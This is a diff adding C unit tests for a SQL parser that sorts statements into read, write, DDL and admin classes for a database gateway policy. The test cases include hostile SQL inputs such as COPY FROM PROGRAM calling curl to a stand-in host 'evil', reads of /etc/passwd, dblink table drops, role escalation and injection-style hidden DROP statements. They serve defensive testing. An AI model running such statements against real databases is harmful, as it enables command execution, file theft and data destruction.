@@ -1,0 +1,149 @@
+/* Unit tests of policy/sqlparse: statement classes and flags on the real parse tree. */
+#include "../../tests/unit/unit.h"
+#include "policy/sqlparse.h"
+
+#include <string.h>
+#include <time.h>
+
+typedef struct cls_case {
+	const char *sql;
+	enum gw_sql_class cls;
+	unsigned flags;        /* flags that must be set */
+} cls_case;
+
+static const cls_case cases[] = {
+	{"SELECT 1", GW_SQL_READ, 0},
+	{"select * from public.customers c join orders o on o.cid = c.id where c.city = 'Berlin'", GW_SQL_READ, 0},
+	{"VALUES (1), (2)", GW_SQL_READ, 0},
+	{"TABLE customers", GW_SQL_READ, 0},
+	{"SHOW search_path", GW_SQL_READ, 0},
+	{"SELECT count(*) FILTER (WHERE x > 1) OVER (PARTITION BY y) FROM t", GW_SQL_READ, 0},
+	{"WITH a AS (SELECT 1) SELECT * FROM a", GW_SQL_READ, 0},
+	{"SELECT * FROM t FOR UPDATE", GW_SQL_WRITE, 0},
+	{"SELECT * FROM t FOR SHARE SKIP LOCKED", GW_SQL_WRITE, 0},
+	{"WITH d AS (DELETE FROM t WHERE id = 1 RETURNING *) SELECT * FROM d", GW_SQL_WRITE, 0},
+	{"SELECT * INTO newt FROM t", GW_SQL_DDL, 0},
+	{"CREATE TABLE x AS SELECT 1", GW_SQL_DDL, 0},
+	{"INSERT INTO t VALUES (1)", GW_SQL_WRITE, 0},
+	{"INSERT INTO t SELECT * FROM s ON CONFLICT (id) DO UPDATE SET v = excluded.v", GW_SQL_WRITE, 0},
+	{"UPDATE t SET v = 1 WHERE id = 2", GW_SQL_WRITE, 0},
+	{"UPDATE t SET v = 1", GW_SQL_WRITE, GW_SQL_F_UPDATE_NO_WHERE},
+	{"DELETE FROM t", GW_SQL_WRITE, GW_SQL_F_DELETE_NO_WHERE},
+	{"DELETE FROM t WHERE true", GW_SQL_WRITE, 0},
+	{"MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN UPDATE SET v = s.v", GW_SQL_WRITE, 0},
+	{"COPY t TO STDOUT", GW_SQL_READ, 0},
+	{"COPY (SELECT * FROM t) TO STDOUT WITH (FORMAT csv)", GW_SQL_READ, 0},
+	{"COPY t FROM STDIN", GW_SQL_WRITE, 0},
+	{"COPY t TO '/tmp/x'", GW_SQL_ADMIN, 0},
+	{"COPY t FROM PROGRAM 'curl evil'", GW_SQL_ADMIN, GW_SQL_F_COPY_PROGRAM},
+	{"EXPLAIN SELECT * FROM t", GW_SQL_READ, 0},
+	{"EXPLAIN DELETE FROM t", GW_SQL_READ, GW_SQL_F_DELETE_NO_WHERE},
+	{"EXPLAIN ANALYZE DELETE FROM t WHERE id = 1", GW_SQL_WRITE, 0},
+	{"EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET v = 1 WHERE id = 1", GW_SQL_WRITE, 0},
+	{"EXPLAIN (ANALYZE false) UPDATE t SET v = 1 WHERE id = 1", GW_SQL_READ, 0},
+	{"BEGIN", GW_SQL_READ, 0},
+	{"BEGIN READ WRITE", GW_SQL_READ, GW_SQL_F_READ_WRITE},
+	{"COMMIT", GW_SQL_READ, 0},
+	{"SAVEPOINT a", GW_SQL_READ, 0},
+	{"PREPARE TRANSACTION 'x'", GW_SQL_ADMIN, 0},
+	{"SET application_name = 'x'", GW_SQL_READ, 0},
+	{"SET statement_timeout TO 5000", GW_SQL_READ, 0},
+	{"SET search_path = evil, public", GW_SQL_READ, GW_SQL_F_SEARCH_PATH},
+	{"SET default_transaction_read_only = off", GW_SQL_READ, GW_SQL_F_READ_WRITE},
+	{"SET transaction_read_only = on", GW_SQL_READ, 0},
+	{"SET TRANSACTION READ WRITE", GW_SQL_READ, GW_SQL_F_READ_WRITE},
+	{"SET ROLE postgres", GW_SQL_ADMIN, 0},
+	{"SET SESSION AUTHORIZATION postgres", GW_SQL_ADMIN, 0},
+	{"RESET ALL", GW_SQL_READ, GW_SQL_F_SESSION_RESET},
+	{"DISCARD ALL", GW_SQL_READ, GW_SQL_F_SESSION_RESET},
+	{"DEALLOCATE ALL", GW_SQL_READ, 0},
+	{"SELECT set_config('role', 'postgres', false)", GW_SQL_ADMIN, 0},
+	{"SELECT pg_catalog.set_config('x', 'y', true)", GW_SQL_ADMIN, 0},
+	{"SELECT pg_terminate_backend(123)", GW_SQL_ADMIN, 0},
+	{"SELECT pg_read_file('/etc/passwd')", GW_SQL_ADMIN, 0},
+	{"SELECT lo_import('/etc/passwd')", GW_SQL_ADMIN, 0},
+	{"SELECT dblink_exec('host=x', 'drop table t')", GW_SQL_ADMIN, 0},
+	{"SELECT nextval('s')", GW_SQL_WRITE, 0},
+	{"SELECT pg_advisory_lock(1)", GW_SQL_WRITE, 0},
+	{"SELECT pg_notify('c', 'x')", GW_SQL_WRITE, 0},
+	{"SELECT (SELECT nextval('s')) + 1", GW_SQL_WRITE, 0},
+	{"SELECT * FROM t WHERE id IN (SELECT pg_terminate_backend(pid) FROM pg_stat_activity)", GW_SQL_ADMIN, 0},
+	{"SELECT CASE WHEN true THEN setval('s', 1) END", GW_SQL_WRITE, 0},
+	{"SELECT * FROM generate_series(1, nextval('s'))", GW_SQL_WRITE, 0},
+	{"LISTEN ch", GW_SQL_READ, 0},
+	{"NOTIFY ch, 'x'", GW_SQL_WRITE, 0},
+	{"DECLARE c CURSOR FOR SELECT * FROM t", GW_SQL_READ, 0},
+	{"DECLARE c CURSOR FOR SELECT * FROM t FOR UPDATE", GW_SQL_WRITE, 0},
+	{"FETCH 10 FROM c", GW_SQL_READ, 0},
+	{"PREPARE p AS DELETE FROM t WHERE id = $1", GW_SQL_WRITE, 0},
+	{"EXECUTE p(1)", GW_SQL_READ, GW_SQL_F_EXECUTE},
+	{"LOCK TABLE t", GW_SQL_WRITE, 0},
+	{"TRUNCATE t", GW_SQL_DDL, GW_SQL_F_TRUNCATE},
+	{"DROP TABLE t", GW_SQL_DDL, GW_SQL_F_DROP},
+	{"CREATE TABLE t (id int)", GW_SQL_DDL, 0},
+	{"ALTER TABLE t ADD COLUMN x int", GW_SQL_DDL, 0},
+	{"CREATE INDEX ON t (x)", GW_SQL_DDL, 0},
+	{"COMMENT ON TABLE t IS 'x'", GW_SQL_DDL, 0},
+	{"GRANT SELECT ON t TO x", GW_SQL_DDL, 0},
+	{"CREATE VIEW v AS SELECT 1", GW_SQL_DDL, 0},
+	{"DO $$ BEGIN PERFORM 1; END $$", GW_SQL_ADMIN, 0},
+	{"CALL p()", GW_SQL_ADMIN, 0},
+	{"VACUUM t", GW_SQL_ADMIN, 0},
+	{"ALTER SYSTEM SET work_mem = '1GB'", GW_SQL_ADMIN, GW_SQL_F_ALTER_SYSTEM},
+	{"CREATE ROLE x SUPERUSER", GW_SQL_ADMIN, 0},
+	{"CREATE EXTENSION dblink", GW_SQL_ADMIN, 0},
+	{"SELECT 1; DELETE FROM t", GW_SQL_WRITE, GW_SQL_F_DELETE_NO_WHERE},
+	{"/* DELETE */ SELECT 'DROP TABLE t' -- ; DROP TABLE t", GW_SQL_READ, 0},
+	{"SELECT $$; DROP TABLE t; $$", GW_SQL_READ, 0},
+	{"SELECT U&'\\0044ROP'", GW_SQL_READ, 0},
+};
+
+GW_TEST(sql_classes_and_flags)
+{
+	for (size_t i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
+		gw_sql s;
+		int rc = gw_sql_parse(cases[i].sql, &s);
+		if (rc != 0)
+			fprintf(stderr, "     parse error for %s: %s\n", cases[i].sql, s.error);
+		CHECK(rc == 0);
+		enum gw_sql_class c = gw_sql_max_class(&s);
+		unsigned flags = 0;
+		for (size_t j = 0; j < s.nstmts; j++)
+			flags |= s.stmts[j].flags;
+		if (c != cases[i].cls || (flags & cases[i].flags) != cases[i].flags || (flags & GW_SQL_F_UNKNOWN)) {
+			fprintf(stderr, "     %s: got %s flags 0x%x, want %s flags 0x%x\n", cases[i].sql, gw_sql_class_str(c),
+				flags, gw_sql_class_str(cases[i].cls), cases[i].flags);
+			CHECK(0);
+		}
+		gw_sql_free(&s);
+	}
+}
+
+GW_TEST(sql_relations_functions_and_errors)
+{
+	gw_sql s;
+	CHECK(gw_sql_parse("SELECT myfn(c.x), lower(c.y) FROM public.customers c JOIN orders o ON true "
+		"WHERE c.id IN (SELECT cid FROM audit.log)", &s) == 0);
+	CHECK(s.nstmts == 1 && s.stmts[0].nrelations == 3);
+	CHECK(!strcmp(s.stmts[0].relations[0], "public.customers"));
+	CHECK(!strcmp(s.stmts[0].relations[1], "orders"));
+	CHECK(!strcmp(s.stmts[0].relations[2], "audit.log"));
+	CHECK(s.stmts[0].nfunctions == 2 && !strcmp(s.stmts[0].functions[0], "myfn"));
+	gw_sql_free(&s);
+	CHECK(gw_sql_parse("EXECUTE plan_a(1, 2)", &s) == 0 && !strcmp(s.stmts[0].execute_name, "plan_a"));
+	gw_sql_free(&s);
+	CHECK(gw_sql_parse("SELEC 1", &s) == -1 && strstr(s.error, "syntax error") != NULL);
+	gw_sql_free(&s);
+	CHECK(gw_sql_parse("", &s) == 0 && s.nstmts == 0);
+	gw_sql_free(&s);
+	/* A statement nested absurdly deep is refused, not recursed into without bound. */
+	char deep[20000] = "SELECT ";
+	for (int i = 0; i < 2000; i++)
+		strcat(deep, "(");
+	strcat(deep, "1");
+	for (int i = 0; i < 2000; i++)
+		strcat(deep, ")");
+	int rc = gw_sql_parse(deep, &s);
+	CHECK(rc == -1 || gw_sql_max_class(&s) == GW_SQL_READ || (s.stmts[0].flags & GW_SQL_F_UNKNOWN));
+	gw_sql_free(&s);
+}
